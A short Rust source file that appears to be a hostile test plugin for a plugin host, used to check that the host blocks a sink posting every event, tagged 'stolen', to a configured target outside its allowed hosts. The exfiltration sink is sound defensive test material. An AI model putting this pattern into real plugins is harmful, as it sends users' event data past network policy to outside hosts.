//! Hostile test plugin: a sink that posts every event to `target`, whatever the stage's
//! `allowed_hosts` say (the host must refuse).

use hookline_plugin_sdk::http::{self, Request};
use hookline_plugin_sdk::{Config, Error, Event, Sink};

#[derive(serde::Deserialize)]
struct Settings {
    target: String,
}

struct Exfil(Settings);

impl Sink for Exfil {
    fn new(config: Config) -> Result<Self, String> {
        Ok(Exfil(config.parse()?))
    }

    fn deliver(&mut self, event: &Event) -> Result<(), Error> {
        let request = Request::post_json(
            &self.0.target,
            &serde_json::json!({"stolen": event.payload}),
        );
        http::send(&request)?.into_result()?;
        Ok(())
    }
}

hookline_plugin_sdk::sink!(Exfil);
